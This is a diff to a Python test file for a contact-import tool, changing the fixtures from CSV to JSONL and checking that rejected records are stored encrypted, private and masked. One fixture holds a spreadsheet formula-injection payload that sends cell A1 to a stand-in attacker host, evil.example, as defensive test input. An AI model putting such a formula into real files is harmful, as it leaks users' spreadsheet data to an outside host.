@@ -22,17 +22,32 @@ from siyu.profiles.pii import Keyring
 from siyu.store.models import AuditEntry
 
 PHONE, OTHER, EMAIL = "13912345678", "13987654321", "secret.person@example.com"
+
+
+def _identify(phone: str, email: str, name: str) -> str:
+    return orjson.dumps(
+        {"type": "identify", "identifiers": {"phone": phone, "email": email}, "traits": {"name": name}}
+    ).decode()
+
+
+#: Segment calls, which are validated strictly: one bad identifier rejects the call (a
+#: spreadsheet row instead keeps its good identifiers, see tests/ingest/test_spreadsheets.py).
 ROWS = (
-    "phone,email,name\n"
-    "13800138000,ok@example.org,好人\n"
-    f'{PHONE},not-an-email@@,"=HYPERLINK(""http://evil.example/?""&A1,""点我"")"\n'  # line 3: bad email
-    f"12,{EMAIL},坏号码\n"  # line 4: bad phone
-    f"{OTHER},also@@bad,另一个\n"  # line 5: bad email
-    "=1+2\n"  # line 6: one column, not three: kept as the raw line
+    "\n".join(
+        [
+            _identify("13700137000", "first@example.org", "第一"),
+            _identify("13800138000", "ok@example.org", "好人"),
+            _identify(PHONE, "not-an-email@@", '=HYPERLINK("http://evil.example/?"&A1,"点我")'),  # line 3
+            _identify("12", EMAIL, "坏号码"),  # line 4: bad phone
+            _identify(OTHER, "also@@bad", "另一个"),  # line 5: bad email
+            "=1+2",  # line 6: not JSON, kept as the raw line
+        ]
+    )
+    + "\n"
 )
 
 
-def import_bad_rows(client: Siyu, tmp_path: Path, name: str = "张三-13900000000.csv") -> Any:
+def import_bad_rows(client: Siyu, tmp_path: Path, name: str = "张三-13900000000.jsonl") -> Any:
     path = tmp_path / name
     path.write_text(ROWS, encoding="utf-8")
     report = client.import_file(path, "contacts")
@@ -50,7 +65,7 @@ def test_dead_letters_are_encrypted_private_and_read_back(ctx: AppContext, tmp_p
     path = Path(report.dead_letter)
     assert path.parent == ctx.settings.dead_letter_dir
     assert "13900000000" not in path.name and "张三" not in path.name  # the upload's name stays out
-    assert masked_job_name(client, report.job_id) == "张三-139****0000.csv"
+    assert masked_job_name(client, report.job_id) == "张三-139****0000.jsonl"
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     data = path.read_bytes()
     for secret in (PHONE, "+86" + PHONE, OTHER, EMAIL, "HYPERLINK", "not-an-email"):
@@ -96,8 +111,8 @@ def test_a_record_too_deep_to_write_keeps_its_verdict(ctx: AppContext, tmp_path:
 
 def test_purge_removes_only_files_past_retention(ctx: AppContext, tmp_path: Path) -> None:
     client = Siyu(ctx)
-    old = import_bad_rows(client, tmp_path, "old.csv")
-    new = import_bad_rows(client, tmp_path, "new.csv")
+    old = import_bad_rows(client, tmp_path, "old.jsonl")
+    new = import_bad_rows(client, tmp_path, "new.jsonl")
     month_ago = time.time() - 31 * 86_400
     os.utime(old.dead_letter, (month_ago, month_ago))
     unrelated = ctx.settings.dead_letter_dir / "README"
@@ -117,10 +132,10 @@ def test_purge_removes_only_files_past_retention(ctx: AppContext, tmp_path: Path
 
 def test_each_import_purges_first(ctx: AppContext, tmp_path: Path) -> None:
     client = Siyu(ctx)
-    old = import_bad_rows(client, tmp_path, "a.csv")
+    old = import_bad_rows(client, tmp_path, "a.jsonl")
     long_ago = time.time() - 400 * 86_400
     os.utime(old.dead_letter, (long_ago, long_ago))
-    import_bad_rows(client, tmp_path, "b.csv")
+    import_bad_rows(client, tmp_path, "b.jsonl")
     assert not Path(old.dead_letter).exists()
 
 
